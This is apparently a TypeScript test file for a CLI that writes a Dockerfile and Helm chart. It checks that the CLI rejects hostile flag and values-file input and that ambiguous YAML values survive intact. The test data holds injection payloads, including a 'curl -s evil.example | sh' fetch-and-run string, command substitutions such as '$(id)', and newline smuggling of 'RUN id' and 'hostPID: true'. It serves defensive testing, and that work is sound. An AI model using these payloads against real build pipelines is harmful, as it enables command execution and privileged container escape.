// Hostile input to `create`, through the real CLI (npm run build first): each bad
// case exits with its documented code, names the flag, the value and the fix, and
// leaves the module byte for byte as it was; each accepted-but-ambiguous value is
// written so that Helm's YAML 1.1 reader reads back the string that was meant.
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { shownValue } from '../../src/inputs/grammar';
import { renderChartYaml } from '../../src/render/chart-yaml';
import { fixtureCopy, runCli, snapshot } from '../support/cli';

interface Refusal {
  name: string;
  args: string[];
  code: 2 | 3;
  expect: string[]; // in stderr, besides a "Fix:" line
  file?: string; // a values file passed with -f
}

/** `Error: FLAG: "VALUE"`: a UsageError shows the value JSON-quoted (newlines as \n), cut to 80 characters. */
const usage = (flag: string, value: string) => `Error: ${flag}: ${shownValue(value)}`;
const flagCase = (category: string, flag: string, value: string, fix: string): [string, Refusal] => [
  category,
  { name: `${flag} ${JSON.stringify(value)}`, args: [flag, value], code: 2, expect: [usage(flag, value), fix] },
];

const CASES: [string, Refusal][] = [
  // injection into the Dockerfile's go build line
  ...['main.version"; curl -s evil.example | sh; "', 'main.version\nRUN id', 'main.version;id', 'main.$(id)', 'main.`id`', "main.v'x", 'main.version x', 'version', '']
    .map((v) => flagCase('Dockerfile', '--version-var', v, 'main.version')),
  ...['1.22\nRUN id', '1.22 AS x', 'latest', '1.22;id'].map((v) => flagCase('Dockerfile', '--go-version', v, 'Go version such as 1.26')),
  // injection into Chart.yaml
  ...['1.0.0\nname: evil', 'v1.0.0', '1.0', '1.0.0 ', '01.0.0'].map((v) => flagCase('Chart.yaml', '--chart-version', v, 'SemVer')),
  ...['1.0\nkubeVersion: "<1.0"', '1.0 beta', '1.0"', '.1', '-rc1', 'a'.repeat(129), ''].map((v) => flagCase('Chart.yaml', '--app-version', v, 'image tag')),
  ...['orders\nx', 'orders;id', 'Orders', 'orders-', 'a'.repeat(54)].map((v): [string, Refusal] => [
    'Chart.yaml',
    { name: `NAME ${JSON.stringify(v)}`, args: [v], code: 2, expect: [usage('NAME', v), 'lowercase letters'] },
  ]),
  // injection into the manifests
  ...['example/app"\nhostPID: true\nx: "', 'Example/App', 'example/app:1.0', 'example/app@sha256:abc', 'https://example.com/app', ' app', '']
    .map((v) => flagCase('manifests', '--image', v, 'image repository')),
  ['manifests', { name: '--set image.repository with a newline', args: ['--set', 'image.repository=x\nhostPID: true'], code: 3, expect: ['image.repository', 'hostPID'] }],
  ['manifests', { name: '--set image.tag with a space', args: ['--set', 'image.tag=1.0 beta'], code: 3, expect: ['image.tag', '"1.0 beta"'] }],
  ['manifests', { name: '--set image.digest not sha256', args: ['--set', 'image.digest=md5:00'], code: 3, expect: ['image.digest', '"md5:00"'] }],
  ['manifests', { name: '-f smuggling hostPID in the repository', args: [], file: 'image:\n  repository: "app\\"\\nhostPID: true"\n', code: 3, expect: ['image.repository'] }],
  ['manifests', { name: '-f with hostPID at the top', args: [], file: 'hostPID: true\n', code: 3, expect: ['hostPID', 'unknown key'] }],
  // numbers YAML cannot carry to Helm
  ['YAML', { name: '-f with 1e400 (infinity)', args: [], file: 'global:\n  big: 1e400\n', code: 2, expect: ['--values', 'global.big', 'not a finite number', 'quote it'] }],
  ['YAML', { name: '-f with .nan', args: [], file: 'global:\n  x: .nan\n', code: 2, expect: ['--values', 'global.x', 'not a finite number', 'quote it'] }],
  // odd --chart-dir values
  ...[
    ['', 'inside the module'], ['.', 'inside the module'], ['./', 'inside the module'], ['..', 'inside the module'], ['../elsewhere', 'inside the module'],
    ['charts/../..', 'inside the module'], ['/tmp/chart', 'absolute'], ['charts/x\n!.git', 'not hidden'], ['.hidden', 'not hidden'],
    ['charts/.x', 'not hidden'], ['charts/a b', 'not hidden'], ['charts/*', 'not hidden'], ['charts\\x', 'not hidden'],
  ].map(([v, words]): [string, Refusal] => ['--chart-dir', { name: `--chart-dir ${JSON.stringify(v)}`, args: ['--chart-dir', v], code: 2, expect: [usage('--chart-dir', v), words] }]),
];

describe.each(['Dockerfile', 'Chart.yaml', 'manifests', 'YAML', '--chart-dir'])('create refuses hostile input: %s', (category) => {
  let dir: string;
  beforeAll(() => {
    dir = fixtureCopy('hello');
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it.each(CASES.filter(([c]) => c === category).map(([, r]) => [r.name, r] as const))('%s', (_, c) => {
    const args = [...c.args];
    if (c.file !== undefined) {
      const file = join(dir, '..', `values-${Math.random().toString(36).slice(2)}.yaml`);
      writeFileSync(file, c.file);
      args.push('-f', file);
    }
    const chartName = c.name.startsWith('NAME ') ? [] : ['hello'];
    const before = snapshot(dir);
    const r = runCli(['create', ...chartName, ...args], { cwd: dir });
    expect({ code: r.code, stdout: r.stdout }).toEqual({ code: c.code, stdout: '' });
    for (const e of c.expect) expect(r.stderr).toContain(e);
    expect(r.stderr).toMatch(/^Fix: \S/m);
    expect(snapshot(dir)).toEqual(before);
  });
});

describe('create: YAML 1.1-ambiguous values reach Helm as the strings that were meant', () => {
  /** Reads a written file the way Helm does (YAML 1.1). */
  const read11 = (dir: string, file: string) => parse(readFileSync(join(dir, file), 'utf8'), { version: '1.1' });

  it.each<[string, string[], (values: any, chart: any) => void]>([
    ['--set image.tag=on', ['--set', 'image.tag=on'], (v) => expect(v.image.tag).toBe('on')],
    ['--set image.tag=1_000', ['--set', 'image.tag=1_000'], (v) => expect(v.image.tag).toBe('1_000')],
    ['--set podAnnotations.x=yes', ['--set', 'podAnnotations.x=yes'], (v) => expect(v.podAnnotations).toEqual({ x: 'yes' })],
    ['--set podLabels keys and values', ['--set', 'podLabels.on=off,podLabels.y=n'], (v) => expect(v.podLabels).toEqual({ on: 'off', y: 'n' })],
    ['--app-version 1e3', ['--app-version', '1e3'], (_, c) => expect(c.appVersion).toBe('1e3')],
    ['--app-version on', ['--app-version', 'on'], (_, c) => expect(c.appVersion).toBe('on')],
    ['--app-version 0777 as the default tag', ['--app-version', '0777'], (_, c) => expect(c.appVersion).toBe('0777')],
    ['--image with a registry port', ['--image', 'registry.example.com:5000/team/hello'], (v) => expect(v.image.repository).toBe('registry.example.com:5000/team/hello')],
  ])('%s', (_, args, check) => {
    const dir = fixtureCopy('hello');
    const r = runCli(['create', 'hello', ...args], { cwd: dir });
    expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: '' });
    check(read11(dir, 'charts/hello/values.yaml'), read11(dir, 'charts/hello/Chart.yaml'));
    rmSync(dir, { recursive: true, force: true });
  });

  it('-f with quoted ambiguous strings: every one written quoted, read back as the same string', () => {
    const dir = fixtureCopy('hello');
    const strings = ['on', 'n', '~', 'null', '0b101', '0x1F', '0o17', '1_000', '12:30', '2024-01-02', '.inf', '1e3', 'True'];
    const file = join(dir, '..', 'ambiguous.yaml');
    writeFileSync(file, `podAnnotations:\n${strings.map((s, i) => `  a${i}: ${JSON.stringify(s)}\n`).join('')}`);
    const r = runCli(['create', 'hello', '-f', file], { cwd: dir });
    expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: '' });
    expect(read11(dir, 'charts/hello/values.yaml').podAnnotations).toEqual(Object.fromEntries(strings.map((s, i) => [`a${i}`, s])));
    rmSync(dir, { recursive: true, force: true });
  });

  it('a module path or description with quotes and newlines stays one string in Chart.yaml', () => {
    const modulePath = 'example.com/a"b: c\nname: evil\n# x';
    const text = renderChartYaml({ name: 'hello', description: `A chart for ${modulePath}`, chartVersion: '0.1.0', appVersion: 'on', modulePath });
    const chart = parse(text, { version: '1.1' });
    expect(chart).toEqual({
      apiVersion: 'v2',
      name: 'hello',
      description: `A chart for ${modulePath}`,
      type: 'application',
      version: '0.1.0',
      appVersion: 'on',
      kubeVersion: '>=1.23.0-0',
      annotations: { 'goservice/go-module': modulePath },
    });
  });
});

describe('create: --chart-dir may not hide what the image build needs', () => {
  it.each([
    ['withdeps', 'cmd', 'holds the main package ./cmd/withdeps'],
    ['withdeps', 'cmd/withdeps', 'holds the main package ./cmd/withdeps'],
    ['vendored', 'vendor/charts', 'is inside vendor/'],
  ])('%s --chart-dir %s', (fixture, chartDir, words) => {
    const dir = fixtureCopy(fixture);
    const before = snapshot(dir);
    const r = runCli(['create', fixture, '--chart-dir', chartDir], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`${usage('--chart-dir', chartDir)} ${words}`);
    expect(r.stderr).toMatch(/^Fix: \S/m);
    expect(snapshot(dir)).toEqual(before);
    rmSync(dir, { recursive: true, force: true });
  });
});

describe('create: --chart-dir is normalised once', () => {
  it('./charts//svc/ writes charts/svc and keeps it out of the image', () => {
    const dir = fixtureCopy('hello');
    const r = runCli(['create', 'hello', '--chart-dir', './charts//svc/', '--json'], { cwd: dir });
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout).chartDir).toBe('charts/svc');
    expect(readFileSync(join(dir, 'charts/svc/Chart.yaml'), 'utf8')).toContain('name: hello');
    expect(readFileSync(join(dir, '.dockerignore'), 'utf8').split('\n')).toContain('charts/svc');
    rmSync(dir, { recursive: true, force: true });
  });
});
